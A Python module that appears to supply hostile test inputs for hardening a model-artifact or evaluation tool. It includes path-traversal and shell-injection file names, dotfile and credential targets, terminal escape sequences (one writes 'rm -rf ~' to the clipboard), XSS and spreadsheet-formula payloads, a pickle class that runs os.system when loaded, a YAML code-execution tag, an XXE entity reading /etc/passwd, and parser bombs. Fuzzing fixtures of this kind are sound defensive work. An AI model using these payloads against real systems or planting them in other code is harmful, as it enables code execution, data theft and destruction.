"""The words of hostile machines: names, documents, texts, from which the cases are made."""

import gzip
import io
import json
import pickle
import struct
import unicodedata
import zipfile
from collections.abc import Iterator

UP = (
    "../evil.json",
    "../../evil.json",
    "a/../../evil.json",
    "eval/../../../evil.json",
    "./evil.json",
    "eval/./evil.json",
    "eval//evil.json",
    "/evil.json",
    "//evil.json",
    "/etc/cron.d/evil.txt",
    "/dev/shm/evil.json",
    "/proc/self/mem.txt",
    "eval/..",
    "..",
    ".",
    "",
    "/",
    "eval/",
    "eval/.",
    "../precious/thesis.txt",
    "..//..//precious/.bashrc",
    ".../evil.json",
    "..../evil.json",
    "eval/.../evil.json",
    "a/b/../../../../evil.json",
    "eval/../eval/x.json",
    "runs/../../evil.json",
    "./../evil.json",
    "eval/%2e%2e/evil.json/../../../evil.json",
    "../case-0/evil.json",
    "../other-run/receipt.json",
    "../../precious/other-run/receipt.json",
)
WINDOWS = (
    "..\\evil.json",
    "..\\..\\evil.json",
    "eval\\..\\..\\evil.json",
    "eval/..\\evil.json",
    "C:\\evil.json",
    "C:/evil.json",
    "C:evil.json",
    "c:\\windows\\evil.txt",
    "\\\\server\\share\\evil.json",
    "//server/share/evil.json",
    "\\\\?\\C:\\evil.json",
    "\\\\.\\pipe\\evil.txt",
    "\\\\.\\PhysicalDrive0.txt",
    "eval/con.json",
    "con.json",
    "CON.json",
    "eval/nul.txt",
    "NUL.txt",
    "aux.json",
    "prn.log",
    "com1.txt",
    "COM9.log",
    "lpt1.json",
    "LPT0.txt",
    "con",
    "eval/AUX.b.json",
    "evil.json.",
    "evil.json ",
    "evil .json",
    " evil.json",
    "eval /evil.json",
    "eval./evil.json",
    "evil.json::$DATA",
    "evil.json:stream.txt",
    "eval/evil?.json",
    "eval/evil*.json",
    "eval/<evil>.json",
    "eval/e|v.json",
    'eval/"evil".json',
    "desktop.ini",
    "eval/PROGRA~1.json",
    "autorun.inf",
    "Thumbs.db",
)
SHELL = (
    "~/evil.json",
    "~root/evil.json",
    "eval/~evil.json",
    "$HOME/evil.json",
    "eval/$(id).json",
    "eval/`id`.json",
    "eval/a;b.json",
    "eval/a&b.json",
    "eval/a|b.json",
    "eval/a\nb.json",
    "eval/a'b.json",
    "-rf.json",
    "--help.json",
    "eval/-evil.json",
    "eval/-o.json",
    "+evil.json",
    "=evil.json",
    "@evil.json",
    "eval/=cmd.csv",
    "eval/@sum.csv",
    "eval/!evil.json",
    "eval/{a,b}.json",
    "eval/[a].json",
    "eval/*.json",
    "eval/?.json",
    "eval/#a.json",
)
DOTS = (
    ".bashrc",
    ".profile",
    ".ssh/authorized_keys",
    ".git/hooks/post-checkout",
    ".gitattributes",
    ".env",
    ".envrc.txt",
    ".netrc",
    "eval/.hidden.json",
    ".parts/evil.json",
    ".parts",
    "eval/.git/config.txt",
    ".vscode/settings.json",
    ".direnv/x.txt",
    "adapter/.cache/x.json",
    ".DS_Store",
    "eval/.evil",
    ".htaccess",
    ".mailcap.txt",
)
CODE = (
    "evil.py",
    "adapter/modeling.py",
    "adapter/evil.so",
    "setup.cfg",
    "conftest.py",
    "Makefile",
    "adapter/evil.sh",
    "evil.exe",
    "evil.lnk",
    "evil.desktop",
    "evil.html",
    "evil.svg",
    "evil.js",
    "evil.command",
    "eval/evil.ipynb",
    "adapter/x.dylib",
    "adapter/x.dll",
    "eval/x.xlsx",
    "eval/x.docm",
    "x.zip",
    "x.tar.gz",
    "x.gz",
    "x.whl",
    "adapter/x.pyc",
    "x.pth",
    "sitecustomize.py",
    "x.toml",
    "x.yaml",
    "launch.yaml",
    "x.jar",
    "x.reg",
    "x.bat",
    "x.ps1",
    "noending",
    "eval/json",
    "adapter/x.json.py",
    "adapter/x.safetensors.exe",
)
PICKLED = (
    "training_args.bin",
    "adapter/training_args.bin",
    "adapter/pytorch_model.bin",
    "adapter/adapter_model.bin",
    "adapter/optimizer.pt",
    "adapter/scheduler.pt",
    "adapter/rng_state.pth",
    "adapter/x.pkl",
    "adapter/x.pickle",
    "adapter/x.npy",
    "adapter/x.npz",
    "adapter/x.joblib",
    "adapter/x.ckpt",
    "adapter/x.h5",
    "adapter/x.keras",
    "adapter/x.dill",
    "adapter/x.pt2",
    "adapter/x.msgpack",
    "adapter/x.onnx",
    "adapter/x.mar",
)
OURS = (
    "receipt.json",
    "manifest.json",
    "report.html",
    "try.json",
    "model_card.md",
    "MODEL_CARD.md",
    "keys/client.txt",
    "data/report.json",
    "Receipt.json",
    "RECEIPT.JSON",
    "eval/summary.json",
    "EVAL/SUMMARY.json",
    "eval/judge.json",
    "eval/votes.json",
    "eval/review/x.json",
    "eval/larger.jsonl",
    "try.py",
    "Keys/x.json",
    "DATA/x.json",
    "manifest.json/x.json",
)
LOOKALIKES = (
    "\u2024\u2024/evil.json",
    "\u2025/evil.json",
    "\uff0e\uff0e/evil.json",
    "eval\uff0fevil.json",
    "eval\u2215evil.json",
    "eval\u2044evil.json",
    "eval\u29f8evil.json",
    "eval\uff3cevil.json",
    "\uff45val/x.json",
    "eval/\ufb01le.json",
    "eval/\u212aelvin.json",
    "eval/\u2460.json",
    "eval/x\u00b2.json",
    "eval/\u0131.json\u0307",
    "e\u0301val/x.json",
    "eval/x\u200b.json",
    "eval/x\u202egnp.json",
    "eval/x\u2066.json",
    "\ufeffeval/x.json",
    "eval/x\u00ad.json",
    "eval/x\u2028.json",
    "eval/x\u00a0.json",
    "eval/x\u3000.json",
    "eval/\u1160.json",
    "eval/x\u0300.json",
    "eval/x\ufe0f.json",
    "eval/\U000e0041.json",
    "eval/x\u180e.json",
    "eval/\u2f3c.json",
    "eval/com\u00b9.json",
    "eval/\ue000.json",
    "eval/\ufdd0.json",
    "eval/\U0010ffff.json",
)
SIGNS = tuple(f"eval/a{sign}b.json" for sign in "\0\x01\x07\x08\t\r\x0b\x0c\x1b\x7f\x80\x85\x9b\x9d\x9f")
TORN = tuple(f"eval/{text}.json" for text in ("\ud800", "\udfff", "a\udc80b", "\udcff\udcfe", "\ud83d", "\udc2fx"))
LONG = (
    "a" * 121 + ".json",
    "a" * 256 + ".json",
    "a" * 5000 + ".json",
    "b/" * 6 + "x.json",
    "b/" * 40 + "x.json",
    "b/" * 3000 + "x.json",
    "eval/" + "\U0001f600" * 60 + ".json",
    "eval/" + "\u00e9" * 70 + ".json",
    ("c" * 120 + "/") * 6 + "x.json",
    "eval/x." + "j" * 200,
    "x" * 100_000 + ".json",
)
ENCODED = (
    "%2e%2e/evil.json",
    "%2e%2e%2fevil.json",
    "..%2fevil.json",
    "..%5cevil.json",
    "%252e%252e/evil.json",
    "eval/%00.json",
    "%c0%ae%c0%ae/evil.json",
    "eval/..%c0%afevil.json",
    "&#46;&#46;/evil.json",
    "\\u002e\\u002e/evil.json",
    "=?utf-8?q?=2e=2e?=/evil.json",
    "eval/%0a.json",
    "file:///etc/passwd.txt",
    "https://evil.example/x.json",
    "data:text/html,x.json",
    "eval/..;/evil.json",
)
NAMES = {
    "paths that lead up": UP,
    "names of Windows": WINDOWS,
    "names for a shell": SHELL,
    "names with a dot": DOTS,
    "code by its name": CODE,
    "pickles by their name": PICKLED,
    "names that are ours": OURS,
    "lookalikes": LOOKALIKES,
    "control signs in names": SIGNS,
    "torn signs in names": TORN,
    "long names": LONG,
    "encoded names": ENCODED,
}
COLLIDING = (
    ("eval/a.json", "eval/A.json"),
    ("eval/a.json", "EVAL/b.json"),
    ("eval/a.json", "eval/a.json"),
    ("eval/a.json", "eval/a.json/b.json"),
    ("eval/a.json/b.json", "eval/a.json"),
    ("adapter/x.json", "Adapter/y.json"),
    ("eval/stra\u00dfe.json", "eval/strasse.json"),
    ("eval/\u00e9.json", unicodedata.normalize("NFD", "eval/\u00e9.json")),
    ("eval/\u03c3.json", "eval/\u03c2.json"),
    ("eval/I.json", "eval/\u0131.json"),
    ("eval/K.json", "eval/\u212a.json"),
    ("eval/\u0130.json", "eval/i\u0307.json"),
    ("a/b/c.json", "A/b/d.json"),
    ("a/b/c.json", "a/B/d.json"),
    ("x.json", "X.JSON"),
    ("eval/\u1e9e.json", "eval/ss.json"),
    ("eval/\ua64a.json", "eval/\u1c88.json"),
    ("eval/\u01f0.json", "eval/j\u030c.json"),
)
"""Two names that come to the same on some system."""

CLIPBOARD = "\x1b]52;c;" + "cm0gLXJmIH4=" + "\x07"
ESCAPES = {
    "colour": "\x1b[31mred\x1b[0m",
    "clear": "\x1b[2J\x1b[H",
    "title": "\x1b]0;evil\x07",
    "title, ended by ST": "\x1b]2;evil\x1b\\",
    "clipboard": CLIPBOARD,
    "clipboard, not ended": "\x1b]52;c;cm0gLXJm",
    "link": "\x1b]8;;https://evil.example\x1b\\here\x1b]8;;\x1b\\",
    "palette": "\x1b]4;1;rgb:00/00/00\x07",
    "notification": "\x1b]9;evil\x07",
    "iterm file": "\x1b]1337;File=inline=1:AAAA\x07",
    "shell marks": "\x1b]133;C\x07",
    "working folder": "\x1b]7;file://evil/\x07",
    "report": "\x1b[6n",
    "identify": "\x1b[c\x1b[>c",
    "answerback": "\x05",
    "bell": "\x07" * 50,
    "backspace": "rm\x08\x08ls",
    "carriage return": "all is lost\rall is well",
    "form feed": "a\x0cb",
    "vertical tab": "a\x0bb",
    "NUL": "a\0b",
    "delete": "a\x7fb",
    "shift out": "\x0e\x0f",
    "DCS": "\x1bP+q544e\x1b\\",
    "sixel": "\x1bPq#0;2;0;0;0~-\x1b\\",
    "APC": "\x1b_Gf=100;AAAA\x1b\\",
    "PM": "\x1b^evil\x1b\\",
    "SOS": "\x1bXevil\x1b\\",
    "kitty keyboard": "\x1b[>1u",
    "mouse": "\x1b[?1000h",
    "alternate screen": "\x1b[?1049h",
    "bracketed paste": "\x1b[?2004l",
    "insert": "\x1b[4h",
    "scroll": "\x1b[3;1r",
    "reset": "\x1bc",
    "charset": "\x1b(0\x1b)0",
    "window": "\x1b[8;1;1t",
    "CSI in 8 bits": "\x9b31m",
    "OSC in 8 bits": "\x9d0;evil\x9c",
    "DCS in 8 bits": "\x90q\x9c",
    "NEL": "a\x85b",
    "bidi override": "safe\u202etxt.exe\u202c",
    "bidi isolate": "\u2066\u2067evil\u2069",
    "arabic mark": "\u061cevil",
    "zero width": "e\u200bv\u2060il\ufeff",
    "line separator": "a\u2028b\u2029c",
    "tags": "\U000e0001\U000e0065",
    "lone half": "\ud83d evil",
    "escape at the cut": "a" * 599 + "\x1b[31m",
    "escape cut in two": "\x1b",
    "escapes nested": "\x1b\x1b[31m[32m",
    "escape in an escape": "\x1b[\x1b]0;x\x0731m",
    "soft hyphen": "ev\u00adil",
    "interlinear": "\ufff9a\ufffab\ufffb",
    "very long": "A" * 200_000,
    "many lines": "evil\n" * 5000,
    "escape flood": "\x1b[31m" * 10_000,
    "not ended, many": "\x1b]" * 20_000,
}
"""What a terminal would obey, or what misleads a reader."""

MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "</style><script>alert(1)</script>",
    "</title><script>x</script>",
    "<iframe src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil'>",
    "<!--",
    "--><script>x</script>",
    "<![CDATA[<script>x</script>]]>",
    "<math><mi//xlink:href=x>",
    "<style>@import '//evil'</style>",
    "<link rel=stylesheet href=//evil>",
    "<form action=//evil><input>",
    "' onmouseover='x",
    "` onload=`x",
    "&lt;script&gt;x&lt;/script&gt;",
    "&#60;script&#62;",
    "\\u003cscript\\u003e",
    "<scr\0ipt>x</script>",
    "<SCRIPT SRC=//evil></SCRIPT>",
    "[x](javascript:alert(1))",
    "![x](//evil/x.png)",
    "<https://evil.example>",
    "[x]: //evil 'y'",
    "| a | b |\n|---|---|\n| c | d |",
    "# heading\n\n## two",
    "```\ncode\n```",
    "---\nlicense: evil\n---",
    "{{7*7}}{% raw %}",
    "${7*7}#{7*7}",
    "{0} {} %s %(x)s",
    "=cmd|'/c calc'!A0",
    "+1+cmd|x!A0",
    "@SUM(1)",
    "-2+3",
)
"""What a page, a card or a spreadsheet would take for its own."""


class Bomb:
    """Runs code when it is unpickled: imports `os.system`, which the watch hears as `pickle.find_class`."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os  # here: what the bomb needs, it brings

        return os.system, ("touch evil",)


def pickles() -> Iterator[tuple[str, bytes]]:
    """The same bomb, as each of pickle's protocols and containers writes it."""
    for protocol in range(pickle.HIGHEST_PROTOCOL + 1):
        yield f"protocol {protocol}", pickle.dumps(Bomb(), protocol)
    inner = pickle.dumps(Bomb(), 2)
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as made:
        made.writestr("archive/data.pkl", inner)
        made.writestr("archive/version", "3\n")
    yield "torch's zip", packed.getvalue()
    yield "torch's old form", pickle.dumps(0x1950A86A20F9469CFC6C, 2) + inner
    yield (
        "numpy's objects",
        b"\x93NUMPY\x01\x00v\x00{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".ljust(128, b" ") + inner,
    )
    yield "joblib, gzip", gzip.compress(inner, mtime=0)
    yield "behind JSON", b"{}\n" + inner
    yield "behind a safetensors header", struct.pack("<Q", 2) + b"{}" + inner


def safetensors() -> Iterator[tuple[str, bytes]]:
    """Headers that lie about lengths, offsets and types."""

    def made(header: object, body: bytes = b"\0" * 16) -> bytes:
        text = json.dumps(header).encode()
        return struct.pack("<Q", len(text)) + text + body

    tensor = {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]}
    for length in (0, 1, 7, 2**31, 2**32, 2**53, 2**62, 2**63, 2**64 - 1):
        yield f"a header of {length} bytes", struct.pack("<Q", length) + b"{}"
    yield "empty", b""
    yield "seven bytes", b"\0" * 7
    for offsets in ([16, 0], [-16, 0], [0, 2**63], [0, 10**30], [8, 4], [0, 1], ["0", "16"], [0], [], None, [0.5, 16]):
        yield f"offsets {offsets}", made({"a": {**tensor, "data_offsets": offsets}})
    yield "offsets that overlap", made({"a": tensor, "b": tensor})
    for shape in ([2**62, 2**62], [-1, 4], [10**30], ["2"], [], [[2]], None, [0] * 1000):
        yield f"shape {str(shape)[:20]}", made({"a": {**tensor, "shape": shape}})
    for dtype in ("F8_EVIL", "O", "", 3, None, "F32" * 1000):
        yield f"dtype {str(dtype)[:10]}", made({"a": {**tensor, "dtype": dtype}})
    yield "metadata of a megabyte", made({"__metadata__": {"x": "y" * 1_000_000}})
    yield "metadata that is no text", made({"__metadata__": {"x": {"y": 1}}})
    yield "deep", made({"a": tensor}).replace(b"[2, 2]", b"[" * 900 + b"]" * 900)
    yield "the same name twice", struct.pack("<Q", 11) + b'{"a":1,"a":2}'
    yield "a name that leads up", made({"../../evil": tensor})


def documents() -> Iterator[tuple[str, bytes]]:
    """JSON, and what is none: bombs for parsers and for those who read what was parsed."""
    yield "nothing", b""
    yield "only spaces", b" " * 100_000
    for text in (
        "null",
        "true",
        "0",
        '""',
        "[]",
        "[[]]",
        "{}",
        '{"a"',
        '{"a":}',
        "{'a': 1}",
        "nan",
        "undefined",
        '{"a":1}}',
        '{"a":1}{"b":2}',
    ):
        yield f"{text}", text.encode()
    for depth in (150, 990, 5_000, 100_000):
        yield f"lists {depth} deep", b"[" * depth + b"]" * depth
        yield f"objects {depth} deep", b'{"a":' * depth + b"1" + b"}" * depth
        yield f"a list {depth} deep in an object", b'{"metrics":' + b"[" * depth + b"]" * depth + b"}"
        yield f"lists {depth} deep, not closed", b"[" * depth
    for number in (
        "1e400",
        "-1e400",
        "NaN",
        "Infinity",
        "-Infinity",
        "1" * 4_000,
        "1" * 5_000,
        "0." + "1" * 10_000,
        "1e-400",
        "-0",
        "9" * 30,
        "1e1000000",
        "0x10",
        "01",
    ):
        yield (
            f"the number {number[:12]} ({len(number)})",
            (
                f'{{"arm":"tuned","n":{number},"step":{number},"loss":{number},"last_step":{number},"of":{number},'
                f'"metrics":{{"exact":{number}}},"item":{number},"r":{number}}}'
            ).encode(),
        )
    yield "the same key twice", b'{"arm":"tuned","arm":"base","n":1,"n":2,"metrics":{"exact":1,"exact":0}}'
    yield "a key ten thousand times", b"{" + b",".join([b'"n":1'] * 10_000) + b"}"
    yield "a hundred thousand keys", b"{" + b",".join(b'"k%d":%d' % (at, at) for at in range(100_000)) + b"}"
    yield "a text of a megabyte", json.dumps({"arm": "x" * 1_000_000, "n": 1, "metrics": {}}).encode()
    yield "a key of a megabyte", json.dumps({"x" * 1_000_000: 1}).encode()
    yield "invalid UTF-8", b'{"arm": "\xff\xfe\x80", "n": 1}'
    yield "overlong UTF-8", b'{"arm": "\xc0\xae\xc0\xae", "n": 1}'
    yield (
        "half of a pair",
        b'{"arm": "\\ud800", "n": 1, "answer": "\\udfff", "gpu": "\\ud83d", "metrics": {"\\udc80": 1}}',
    )
    yield "UTF-16", '{"arm": "tuned"}'.encode("utf-16")
    yield "UTF-32", '{"arm": "tuned"}'.encode("utf-32")
    yield "a byte order mark", b"\xef\xbb\xbf" + b'{"arm": "tuned"}'
    yield "NUL bytes", b'{"arm": "tu\0ned"}' + b"\0" * 10_000
    yield (
        "wrong types",
        b'{"arm": ["tuned"], "n": "1", "metrics": [1], "step": {}, "loss": [], "last_step": null, "of": true}',
    )
    yield (
        "negative",
        b'{"arm": "tuned", "n": -1, "step": -5, "last_step": -1, "of": -2, "metrics": {"exact": -1e300}, "item": -3}',
    )
    yield "zip", gzip.compress(b"\0" * 1_000_000, mtime=0)
    yield "YAML with an object", b"!!python/object/apply:os.system ['touch evil']"
    yield "XML", b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
    yield "prototype", b'{"__proto__": {"a": 1}, "__class__": "os.system", "__reduce__": ["os.system", "x"]}'
    yield "lines without end", b'{"step": 1, "loss": 1' * 50_000
    yield "fifty thousand lines", b'{"step": 1, "loss": 1.0}\n' * 50_000
    yield "fifty thousand empty lines", b"\n" * 50_000
